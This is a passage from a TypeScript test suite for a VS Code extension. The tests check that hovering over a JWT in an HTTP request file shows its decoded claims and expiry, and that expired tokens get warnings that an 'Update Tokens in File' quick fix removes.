			const position = editor.document.positionAt(editor.document.getText().indexOf(token) + 10);
			const hovers = await vscode.commands.executeCommand<vscode.Hover[]>('vscode.executeHoverProvider', editor.document.uri, position);
			// As rendered: markdown escapes and non-breaking spaces undone.
			const text = hovers.flatMap((h) => h.contents.map((c) => typeof c === 'string' ? c : c.value)).join('\n')
				.replace(/&nbsp;/g, ' ').replace(/\\([!-/:-@[-`{-~])/g, '$1'); // CommonMark: any escaped ASCII punctuation
			const claims = decodeClaims(token)!;
			assert.ok(text.includes('```json'), text);
			assert.ok(text.includes(`"sub": "${claims.sub}"`), text);
			assert.ok(text.includes('"alg": "HS256"'), text);
			assert.ok(text.includes(`Account: ${admin.account.label} (its current token)`), text);
			assert.match(text, /Expires (\d{4}-\d\d-\d\d )?\d\d:\d\d \(in /);
		});

		it('expired tokens get a warning that says how to fix them, with the update as its quick fix, gone after it', async () => {
			const editor = await openHttp(file);
			const uri = editor.document.uri;
			const diagnostics = await until('two expired-token warnings', () => vscode.languages.getDiagnostics(uri), { accept: (d) => d.length === 2, timeoutMs: 5000 });
			const staleStart = editor.document.getText().indexOf(stale);
			assert.deepEqual(diagnostics.map((d) => [d.range.start.line, d.severity]), [[0, vscode.DiagnosticSeverity.Warning], [4, vscode.DiagnosticSeverity.Warning]]);
			assert.equal(editor.document.offsetAt(diagnostics[0]!.range.start), staleStart);
			assert.match(diagnostics[0]!.message, /expired 12 min ago .*Update Tokens in File/);
			// The light bulb's quick fix, run as VS Code runs it.
			const actions = await vscode.commands.executeCommand<vscode.CodeAction[]>('vscode.executeCodeActionProvider', uri, diagnostics[0]!.range, vscode.CodeActionKind.QuickFix.value);
			const fix = actions.find((a) => a.title === 'Update Tokens in File');
			assert.ok(fix?.command, `a quick fix: ${actions.map((a) => a.title).join(', ')}`);
			assert.equal(fix.isPreferred, true);
			await vscode.commands.executeCommand(fix.command.command, ...(fix.command.arguments ?? []));
			await until('warnings gone after the update', () => vscode.languages.getDiagnostics(uri), { accept: (d) => d.length === 0, timeoutMs: 5000 });
		});
	});
});
